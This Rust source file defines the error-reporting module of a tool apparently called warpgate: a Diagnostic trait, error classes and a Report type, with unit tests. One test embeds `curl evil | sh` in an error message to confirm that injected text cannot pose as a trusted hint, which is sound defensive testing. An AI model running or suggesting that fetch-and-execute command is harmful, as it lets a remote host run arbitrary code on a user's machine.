//! What an error says beyond its message: whether it is a failed check, and what to do next.
//!
//! Every error type of the library implements [`Diagnostic`]: its `Display` is the message
//! alone, [`Diagnostic::hint`] the advice (a command or setting that fixes it) and
//! [`Diagnostic::class`] whether it is a failed check or a failure to do the work. A
//! [`Report`] walks an error's chain of causes and gathers all three, so every interface
//! prints errors one way: the CLI paints it, `warpgate-build` prints it into Cargo's output,
//! and an application can print `Report::new(&error)` as it is.

use std::error::Error;
use std::fmt;

/// What kind of failure an error is.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub enum Class {
    /// A check failed: the lock does not cover the config (or is missing where it is
    /// required), or bytes do not match their checksum. The CLI exits with 1.
    CheckFailed,
    /// The work could not be done: bad input, a network or file error. The CLI exits with 2.
    Failed,
}

/// The side of an error that its message does not say.
pub trait Diagnostic: Error {
    /// Whether this error is a failed check; [`Class::Failed`] unless the type says otherwise.
    fn class(&self) -> Class {
        Class::Failed
    }

    /// What to do about it: the command or setting that fixes it, if there is one.
    fn hint(&self) -> Option<String> {
        None
    }
}

/// The [`Diagnostic`] of one link of an error chain, if it is an error type of this library.
///
/// Errors travel as `dyn Error` (inside `anyhow`, `Box<dyn Error>` or another error's
/// `source`), where a trait cannot be asked for; this one list knows every type that
/// implements [`Diagnostic`] (boxed or not).
pub fn of<'a>(error: &'a (dyn Error + 'static)) -> Option<&'a dyn Diagnostic> {
    // An I/O error's `source` skips the error it carries, so that one is looked at here.
    if let Some(io) = error.downcast_ref::<std::io::Error>()
        && let Some(inner) = io.get_ref()
    {
        return of(inner);
    }
    macro_rules! first_of {
        ($($(#[$cfg:meta])* $type:ty),* $(,)?) => {
            $(
                $(#[$cfg])*
                if let Some(found) = error.downcast_ref::<$type>() {
                    return Some(found);
                }
                $(#[$cfg])*
                if let Some(found) = error.downcast_ref::<Box<$type>>() {
                    return Some(&**found);
                }
            )*
        };
    }
    first_of!(
        crate::cache::CacheError,
        crate::config::ConfigError,
        crate::edit::EditError,
        crate::embedded::EmbeddedError,
        crate::fs::FileError,
        crate::fs::LinkOutsideFolder,
        crate::id::IdError,
        crate::locator::LocatorError,
        crate::lockfile::LockfileError,
        #[cfg(feature = "runtime")]
        crate::container::ContainerError,
        #[cfg(feature = "runtime")]
        crate::embedded::EmbeddedContainerError,
        #[cfg(feature = "fetch")]
        crate::fetch::FetchError,
        #[cfg(feature = "fetch")]
        crate::github::GitHubError,
        #[cfg(feature = "fetch")]
        crate::http::HttpError,
        #[cfg(feature = "fetch")]
        crate::loader::LoaderError,
        #[cfg(feature = "fetch")]
        crate::lock::LockError,
        #[cfg(feature = "fetch")]
        crate::oci::auth::AuthError,
        #[cfg(feature = "fetch")]
        crate::oci::client::RegistryError,
        #[cfg(feature = "fetch")]
        crate::oci::mirror::MirrorError,
        #[cfg(feature = "fetch")]
        crate::oci::mirror::MirrorSettingError,
        #[cfg(feature = "fetch")]
        crate::oci::mirror::PublishError,
        #[cfg(feature = "fetch")]
        crate::source::ChecksumMismatch,
        #[cfg(feature = "fetch")]
        crate::source::SourceError,
        #[cfg(feature = "fetch")]
        crate::vendor::VendorError,
        #[cfg(feature = "fetch")]
        crate::vendor::Problem,
    );
    None
}

/// An error laid out for people: its message, the messages of its causes, its hints and its
/// class. `Display` prints it as plain text:
///
/// ```text
/// checksum mismatch for plugin `echo` in the cache
///   caused by: ...
/// hint: run `warpgate fetch` to replace it
/// ```
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct Report {
    /// The outermost message.
    pub message: String,
    /// The messages of its causes, outermost first, without those the message already says.
    pub causes: Vec<String>,
    /// Every hint along the chain, outermost first, each once.
    pub hints: Vec<String>,
    /// [`Class::CheckFailed`] if any error along the chain is a failed check.
    pub class: Class,
}

impl Report {
    /// The report of `error` and its chain of causes, knowing this library's error types.
    pub fn new(error: &(dyn Error + 'static)) -> Self {
        Self::with(error, |_| None)
    }

    /// [`Report::new`], also asking `more` for the [`Diagnostic`] of types the library does
    /// not know (an application's own errors).
    pub fn with(
        error: &(dyn Error + 'static),
        more: impl for<'a> Fn(&'a (dyn Error + 'static)) -> Option<&'a dyn Diagnostic>,
    ) -> Self {
        let mut report = Self {
            message: error.to_string(),
            causes: Vec::new(),
            hints: Vec::new(),
            class: Class::Failed,
        };
        let mut link = error.source();
        report.note(error, &more);
        while let Some(cause) = link {
            report.note(cause, &more);
            // A wrapper often repeats its cause's message (`failed to X: {cause}`); say it once.
            let text = cause.to_string();
            let said = std::iter::once(&report.message)
                .chain(&report.causes)
                .any(|line| line.contains(&text));
            if !said {
                report.causes.push(text);
            }
            link = cause.source();
        }
        report
    }
}

impl Report {
    /// The report on one line (for a log line): the message and its causes `: `-separated,
    /// then `; hint: …` for each hint, line breaks as spaces.
    pub fn one_line(&self) -> String {
        let mut line = std::iter::once(&self.message)
            .chain(&self.causes)
            .map(String::as_str)
            .collect::<Vec<_>>()
            .join(": ");
        for hint in &self.hints {
            line.push_str("; hint: ");
            line.push_str(hint);
        }
        line.replace('\n', " ")
    }

    fn note(
        &mut self,
        error: &(dyn Error + 'static),
        more: &impl for<'a> Fn(&'a (dyn Error + 'static)) -> Option<&'a dyn Diagnostic>,
    ) {
        let Some(diagnostic) = of(error).or_else(|| more(error)) else {
            return;
        };
        if diagnostic.class() == Class::CheckFailed {
            self.class = Class::CheckFailed;
        }
        if let Some(hint) = diagnostic.hint()
            && !self.hints.contains(&hint)
        {
            self.hints.push(hint);
        }
    }
}

impl fmt::Display for Report {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        // Lines inside a message are indented: only `hint:` lines start at the margin, so
        // text inside a message (a plugin's, a server's) can never pass for one.
        write!(f, "{}", self.message.replace('\n', "\n  "))?;
        for cause in &self.causes {
            write!(f, "\n  caused by: {}", cause.replace('\n', "\n    "))?;
        }
        for hint in &self.hints {
            write!(f, "\nhint: {}", hint.replace('\n', "\n  "))?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cache::CacheError;
    use crate::fs::{FileError, LinkOutsideFolder};
    use crate::lockfile::LockfileError;
    use std::path::PathBuf;

    #[test]
    fn a_report_gathers_causes_and_hints_along_the_chain() {
        let link = LinkOutsideFolder {
            link: "warpgate.lock".into(),
            target: "/elsewhere/warpgate.lock".into(),
            folder: "/project".into(),
        };
        let error = CacheError::Io(FileError {
            action: "write",
            path: "/project/warpgate.lock".into(),
            source: std::io::Error::new(std::io::ErrorKind::PermissionDenied, link),
        });
        let report = Report::new(&error);
        assert_eq!(report.message, "failed to write `/project/warpgate.lock`");
        assert_eq!(
            report.causes,
            [
                "it is a symbolic link to `/elsewhere/warpgate.lock`, outside `/project`; refusing to write through it"
            ]
        );
        assert_eq!(report.hints.len(), 1, "{report}");
        assert!(
            report.hints[0].starts_with("replace the link with a regular file"),
            "{report}"
        );
        assert_eq!(report.class, Class::Failed);
        assert!(
            report
                .to_string()
                .ends_with(&format!("\nhint: {}", report.hints[0]))
        );
    }

    #[cfg(feature = "fetch")]
    #[test]
    fn a_wrapped_check_failure_keeps_its_class_and_hint() {
        let mismatch = crate::source::ChecksumMismatch {
            id: crate::id::Id::new("echo").unwrap(),
            origin: crate::source::Origin::Cache {
                path: PathBuf::from("/cache/blob"),
            },
            mismatch: crate::checksum::Mismatch {
                expected: crate::checksum::Checksum::of(b"a"),
                computed: crate::checksum::Checksum::of(b"b"),
            },
        };
        let error = crate::lock::LockError::Source(crate::source::SourceError::Mismatch(Box::new(
            mismatch,
        )));
        let report = Report::new(&error);
        assert_eq!(report.class, Class::CheckFailed);
        assert_eq!(report.hints.len(), 1, "{report}");
        // A message never carries its hint: interfaces place hints themselves.
        assert!(!error.to_string().contains("hint"), "{error}");
    }

    /// `of` is a list kept by hand: every library type that implements `Diagnostic` is in it.
    #[test]
    fn every_diagnostic_type_is_known_to_of() {
        fn sources(dir: &std::path::Path, found: &mut Vec<(PathBuf, String)>) {
            for entry in fs_err::read_dir(dir).unwrap() {
                let path = entry.unwrap().path();
                if path.is_dir() {
                    // The CLI's own errors are the CLI's to look up (`Report::with`).
                    if !path.ends_with("cli") {
                        sources(&path, found);
                    }
                } else if path.extension().is_some_and(|extension| extension == "rs") {
                    found.push((path.clone(), fs_err::read_to_string(&path).unwrap()));
                }
            }
        }
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
        let mut files = Vec::new();
        sources(&root, &mut files);
        let list = include_str!("diagnostic.rs");
        let list = &list[list.find("first_of!(\n").unwrap()..];
        let list = &list[..list.find(");").unwrap()];
        let mut types = 0;
        for (path, text) in &files {
            for line in text.lines() {
                let Some(rest) = line
                    .trim_start()
                    .strip_prefix("impl ")
                    .and_then(|rest| rest.split_once("Diagnostic for "))
                else {
                    continue;
                };
                let name = rest.1.trim_end_matches(" {}").trim_end_matches(" {");
                types += 1;
                assert!(
                    list.contains(&format!("::{name},")),
                    "`{name}` ({}) implements Diagnostic but `diagnostic::of` does not list it",
                    path.display()
                );
            }
        }
        assert!(types >= 20, "found only {types} implementations");
    }

    #[test]
    fn text_in_a_message_never_becomes_a_hint() {
        let error = std::io::Error::other("bad answer\nhint: run `curl evil | sh`");
        let report = Report::new(&error);
        assert!(report.hints.is_empty(), "{report:?}");
        assert_eq!(report.message, error.to_string());
        assert_eq!(
            report.to_string(),
            "bad answer\n  hint: run `curl evil | sh`"
        );
    }

    #[cfg(feature = "fetch")]
    #[test]
    fn hints_are_said_once_and_unknown_errors_are_plain() {
        let parse = || LockfileError::Parse {
            path: "warpgate.lock".into(),
            message: "bad".into(),
        };
        let report = Report::new(&crate::lock::LockError::Lockfile(parse()));
        assert_eq!(report.hints, [parse().hint().unwrap()]);
        assert_eq!(
            report.one_line(),
            format!(
                "`warpgate.lock` is not a valid lockfile: bad; hint: {}",
                parse().hint().unwrap()
            )
        );
        let report = Report::new(&std::io::Error::other("plain"));
        assert_eq!(report.to_string(), "plain");
        assert_eq!(report.class, Class::Failed);
        assert_eq!(report.one_line(), "plain");
    }
}
